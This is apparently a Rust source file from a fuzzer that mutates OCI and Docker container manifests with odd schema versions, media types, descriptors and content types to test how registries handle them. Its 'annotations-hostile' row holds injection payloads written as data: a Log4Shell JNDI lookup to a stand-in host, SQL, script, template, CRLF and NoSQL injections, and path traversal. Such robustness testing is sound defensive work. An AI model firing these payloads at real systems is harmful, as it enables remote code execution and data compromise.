//! Members of a manifest that are absent, of another type, or say something else than the rest.

use super::super::Mutation;
use super::super::Stance;
use super::super::manifest;
use super::edited;
use super::texts;
use crate::fuzz::draft::Draft;

/// The rows.
pub(in super::super) const ROWS: &[Mutation] = &[
    manifest(
        "schema-version-odd",
        "a manifest of a schema version that does not exist",
        Stance::Either,
        |draft, dice| {
            let values = &[
                "1",
                "0",
                "3",
                "-2",
                "\"2\"",
                "null",
                "true",
                "[2]",
                "{}",
                "1e400",
                "18446744073709551618",
                "4294967298",
            ];
            texts(draft, "schemaVersion", values, dice)
        },
    ),
    manifest(
        "schema-version-form",
        "a schema version that is the right number in another form",
        Stance::Either,
        |draft, dice| {
            texts(
                draft,
                "schemaVersion",
                &["2.0", "2e0", "20e-1", "0.2E+1", "2.0000000000000000001"],
                dice,
            )
        },
    ),
    manifest(
        "schema-version-absent",
        "a manifest without a schema version",
        Stance::Either,
        |draft, _| removed(draft, "schemaVersion"),
    ),
    manifest(
        "media-type-absent",
        "a manifest that does not say its media type",
        Stance::Either,
        |draft, _| removed(draft, "mediaType"),
    ),
    manifest(
        "media-type-odd",
        "a manifest that says a media type which is none",
        Stance::Either,
        |draft, dice| texts(draft, "mediaType", ODD_TYPES, dice),
    ),
    manifest(
        "media-type-unlike",
        "a manifest that says another media type than it is pushed under",
        Stance::Either,
        |draft, dice| {
            let other = dice.pick(KNOWN_TYPES);
            edited(draft, |draft| {
                draft.set_text("mediaType", format!("\"{other}\""));
            })
        },
    ),
    manifest(
        "content-type-unlike",
        "the same bytes under another known type",
        Stance::Either,
        |draft, dice| typed(draft, dice.pick(KNOWN_TYPES)),
    ),
    manifest(
        "content-type-unlike-and-unsaid",
        "bytes that say no media type, under another known type",
        Stance::Either,
        |draft, dice| {
            let is_unsaid = removed(draft, "mediaType");
            typed(draft, dice.pick(KNOWN_TYPES)) || is_unsaid
        },
    ),
    manifest(
        "content-type-odd",
        "a manifest under a type that is none, or of no manifest",
        Stance::Either,
        |draft, dice| {
            let types = &[
                "application/json",
                "application/octet-stream",
                "text/plain",
                "application/vnd.example.unknown+json",
                "application/vnd.oci.artifact.manifest.v1+json",
                "application/vnd.docker.distribution.manifest.v1+prettyjws",
                "*/*",
                "a",
                "/",
                "",
                "application/vnd.oci.image.manifest.v1+json, text/html",
            ];
            typed(draft, dice.pick(types))
        },
    ),
    manifest(
        "content-type-parameters",
        "a manifest under its type with parameters",
        Stance::Either,
        |draft, dice| {
            let parameters = dice.pick(&[
                "; charset=utf-8",
                ";charset=UTF-16",
                ";",
                "; a=\"b;c\"",
                "; a=b; a=c",
                " ",
            ]);
            let other = format!("{}{parameters}", draft.content_type);
            typed(draft, &other)
        },
    ),
    manifest(
        "content-type-case",
        "a manifest under its type in capitals",
        Stance::Either,
        |draft, _| {
            let other = draft.content_type.to_uppercase();
            typed(draft, &other)
        },
    ),
    manifest(
        "artifact-type-odd",
        "a manifest of an artifact type that is none",
        Stance::Either,
        |draft, dice| texts(draft, "artifactType", ODD_TYPES, dice),
    ),
    manifest(
        "artifact-type-absent",
        "an artifact that does not say its type",
        Stance::Either,
        |draft, _| removed(draft, "artifactType"),
    ),
    manifest(
        "config-odd",
        "a configuration that is no descriptor",
        Stance::Either,
        |draft, dice| texts(draft, "config", ODD_OBJECTS, dice),
    ),
    manifest(
        "config-absent",
        "an image without a configuration",
        Stance::Either,
        |draft, _| removed(draft, "config"),
    ),
    manifest(
        "layers-odd",
        "layers that are no descriptors",
        Stance::Either,
        |draft, dice| texts(draft, "layers", ODD_LISTS, dice),
    ),
    manifest(
        "layers-absent",
        "an image without layers",
        Stance::Either,
        |draft, _| removed(draft, "layers"),
    ),
    manifest(
        "manifests-odd",
        "manifests that are no descriptors",
        Stance::Either,
        |draft, dice| texts(draft, "manifests", ODD_LISTS, dice),
    ),
    manifest(
        "manifests-absent",
        "an index without manifests",
        Stance::Either,
        |draft, _| removed(draft, "manifests"),
    ),
    manifest(
        "hybrid",
        "an image with manifests, or an index with layers",
        Stance::Either,
        |draft, dice| {
            let text = dice.pick(&["[]", "null", HYBRID_LIST]);
            edited(draft, |draft| {
                let name = if draft.member("layers").is_some() {
                    "manifests"
                } else {
                    "layers"
                };
                draft.add_text(name, text);
            })
        },
    ),
    manifest(
        "signed-schema",
        "a manifest with the members of Docker's schema 1",
        Stance::Either,
        |draft, dice| {
            let drops_others = dice.below(2) == 1;
            edited(draft, |draft| {
                if drops_others {
                    draft.members.clear();
                }
                draft.set_text("schemaVersion", "1");
                for (name, text) in SCHEMA_1 {
                    draft.set_text(name, *text);
                }
            })
        },
    ),
    manifest(
        "subject-odd",
        "a subject that is no descriptor",
        Stance::Either,
        |draft, dice| texts(draft, "subject", ODD_OBJECTS, dice),
    ),
    manifest(
        "annotations-odd",
        "annotations that are no texts",
        Stance::Either,
        |draft, dice| {
            let values = &[
                "null",
                "{\"a\":1}",
                "{\"a\":null}",
                "{\"a\":{\"b\":\"c\"}}",
                "{\"a\":[\"b\"]}",
                "[]",
                "[\"a\"]",
                "\"a\"",
                "0",
                "{\"a\":true}",
                "{\"\":\"\"}",
                "{\"a\":\"1\",\"a\":\"2\"}",
            ];
            texts(draft, "annotations", values, dice)
        },
    ),
    manifest(
        "annotations-hostile",
        "annotations that some reader may take for code",
        Stance::Either,
        |draft, dice| {
            let values = &[
                "{\"org.opencontainers.image.title\":\"../../plimsoll-nowhere\"}",
                "{\"a\":\"<script>\"}",
                "{\"a\":\"' OR 1=1 --\"}",
                "{\"a\":\"${jndi:ldap://plimsoll.invalid/a}\"}",
                "{\"a\":\"{{7*7}}\"}",
                "{\"a\":\"\\r\\nx: y\"}",
                "{\"org.opencontainers.image.ref.name\":\"..\"}",
                "{\"\\u202e\":\"\\u0000\"}",
                "{\"$where\":\"1\",\"a.b\":\"c\"}",
            ];
            texts(draft, "annotations", values, dice)
        },
    ),
];

/// Values of a media type that are none.
const ODD_TYPES: &[&str] = &[
    "\"\"",
    "\"a\"",
    "null",
    "2",
    "[]",
    "{}",
    "\"application/vnd.example.unknown.v1+json\"",
    "\"APPLICATION/VND.OCI.IMAGE.MANIFEST.V1+JSON\"",
    "\"application/vnd.oci.image.manifest.v1+json; charset=utf-8\"",
    "\" application/vnd.oci.image.manifest.v1+json\"",
    "\"/\"",
    "\"a/b/c\"",
    "\"*/*\"",
    "\"a/\\u00e9\"",
    "\"../../plimsoll-nowhere\"",
];

/// Types that registries know.
const KNOWN_TYPES: &[&str] = &[
    "application/vnd.oci.image.index.v1+json",
    "application/vnd.oci.image.manifest.v1+json",
    "application/vnd.docker.distribution.manifest.v2+json",
    "application/vnd.docker.distribution.manifest.list.v2+json",
];

/// Values in the place of a descriptor.
const ODD_OBJECTS: &[&str] = &[
    "null",
    "{}",
    "[]",
    "\"\"",
    "0",
    "true",
    "[null]",
    "\"sha256:short\"",
    "{\"digest\":null}",
    "{\"digest\":\"\"}",
    "{\"mediaType\":\"a/b\",\"size\":2}",
];

/// Values in the place of a list of descriptors.
const ODD_LISTS: &[&str] = &[
    "null",
    "[]",
    "[null]",
    "{}",
    "\"\"",
    "0",
    "[[]]",
    "[0]",
    "[\"\"]",
    "[{}]",
    "[{},null]",
    "{\"0\":{}}",
];

/// A list with one descriptor of what nobody has.
const HYBRID_LIST: &str = "[{\"mediaType\":\"application/vnd.oci.image.manifest.v1+json\",\
    \"digest\":\"sha256:abababababababababababababababababababababababababababababababab\",\"size\":2}]";

/// Members of Docker's schema 1.
const SCHEMA_1: &[(&str, &str)] = &[
    ("name", "\"plimsoll-nowhere\""),
    ("tag", "\"latest\""),
    ("architecture", "\"amd64\""),
    ("fsLayers", "[{\"blobSum\":\"sha256:short\"}]"),
    ("history", "[{\"v1Compatibility\":\"{}\"}]"),
    (
        "signatures",
        "[{\"header\":{},\"signature\":\"a\",\"protected\":\"b\"}]",
    ),
];

fn removed(draft: &mut Draft, name: &str) -> bool {
    edited(draft, |draft| {
        draft.remove(name);
    })
}

/// Pushes the same bytes under another type. Whether it is another.
fn typed(draft: &mut Draft, other: &str) -> bool {
    let before = std::mem::replace(&mut draft.content_type, other.to_owned());
    before != other
}
